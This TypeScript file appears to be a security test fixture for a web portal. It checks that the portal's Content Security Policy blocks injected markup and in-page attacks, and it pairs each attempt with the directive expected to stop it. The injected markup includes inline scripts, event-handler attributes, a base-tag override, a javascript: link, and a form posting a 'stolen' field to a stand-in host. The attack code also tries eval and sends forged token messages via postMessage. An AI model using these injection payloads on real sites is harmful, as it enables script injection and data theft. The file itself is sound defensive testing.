// What a person who can write into a page would try. Each attack that runs adds its name to `window.ran`.

const elsewhere = 'https://elsewhere.example'
const run = (name: string) => `(window.ran = window.ran || []).push('${name}')`

/** Markup in the page as it arrives, before any code of the portal: only the policy of the answer stands in its way. */
export const injectedText = `
  <base href="${elsewhere}/">
  <script>${run('inline script')}</script>
  <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run('handler')}" onerror="${run('handler')}">
  <script src="${elsewhere}/foreign.js"></script>
  <iframe src="${elsewhere}/frame"></iframe>
  <object data="${elsewhere}/object"></object>
  <p id="styled" style="position: fixed">styled</p>
  <a id="link" href="javascript:${run('javascript link')}">link</a>
  <form id="form" action="${elsewhere}/form" method="post"><input name="stolen" value="1"></form>`

/** The directives that block all of this. Trusted Types come before the directive that would block eval. */
export const blockedBy = (hasTrustedTypes: boolean) => [
  'base-uri',
  'script-src-elem',
  'script-src-attr',
  'frame-src',
  'object-src',
  'style-src-attr',
  'form-action',
  hasTrustedTypes ? 'require-trusted-types-for' : 'script-src',
]

/** Without Trusted Types markup becomes elements, whose handlers the policy still keeps from running. */
export const harmless = (hasTrustedTypes: boolean) => ({
  hasTrustedTypes,
  ran: hasTrustedTypes ? [] : ['innerHTML'],
  base: 'own',
  position: 'static',
})

/** What is attempted in the running page, sent there as its source. Returns what became of it. */
export async function attack() {
  const ran: string[] = []
  const attempt = (name: string, act: () => unknown) => {
    try {
      if (act() !== 'refused') ran.push(name)
    } catch {
      // Refused.
    }
  }
  attempt('link', () => {
    document.querySelector<HTMLElement>('#link')?.click()
    return 'refused'
  })
  attempt('form', () => {
    document.querySelector<HTMLFormElement>('#form')?.submit()
    return 'refused'
  })
  // The browser lets the driver itself use eval.
  await new Promise((resolve) => setTimeout(resolve))
  attempt('eval', () => Reflect.get(window, 'eval').call(window, '1 + 1'))
  attempt('new Function', () => Reflect.construct(Function, ['return 1']))
  const place = document.createElement('div')
  const markup = '<img src="data:,x" onerror="(window.ran = window.ran || []).push(1)">'
  attempt('innerHTML', () => {
    place.innerHTML = markup
    return place.childElementCount === 0 ? 'refused' : 'made'
  })
  const script = document.createElement('script')
  attempt('script text', () => {
    script.text = 'window.ran = ["script text"]'
    document.body.append(script)
    return 'ran' in window ? 'made' : 'refused'
  })
  for (const message of [
    { type: 'sign-out' },
    { access_token: 'stolen', refresh_token: 'stolen' },
    '{"type":"exchange","url":"https://elsewhere.example"}',
    'javascript:1',
  ])
    window.postMessage(message, '*')
  // Messages arrive in their order, so all have been heard once this one comes.
  const heard = new Promise((resolve) => {
    addEventListener('message', ({ data }) => data === 'last' && resolve(undefined))
  })
  window.postMessage('last', '*')
  await heard
  const styled = document.querySelector('#styled')
  return {
    hasTrustedTypes: 'trustedTypes' in window,
    ran: [...ran, ...[Reflect.get(window, 'ran') ?? []].flat()],
    base: new URL(document.baseURI).origin === location.origin ? 'own' : document.baseURI,
    position: styled ? getComputedStyle(styled).position : 'missing',
    path: location.pathname,
  }
}
